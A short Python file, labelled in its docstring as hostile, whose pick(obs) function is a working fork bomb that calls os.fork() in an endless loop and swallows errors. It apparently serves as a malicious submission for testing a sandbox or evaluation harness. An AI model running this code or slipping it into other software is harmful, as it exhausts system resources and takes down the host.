"""Hostile: a fork bomb."""
import contextlib
import os


def pick(obs):
    while True:
        with contextlib.suppress(OSError):
            os.fork()
